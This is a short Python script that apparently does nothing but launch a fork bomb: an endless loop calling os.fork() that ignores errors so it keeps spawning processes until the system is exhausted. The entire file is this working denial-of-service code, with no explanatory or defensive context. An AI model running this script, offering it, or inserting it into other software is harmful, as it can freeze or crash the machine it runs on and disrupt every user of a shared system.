#!/usr/bin/env python3
"""Starts processes without end."""
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
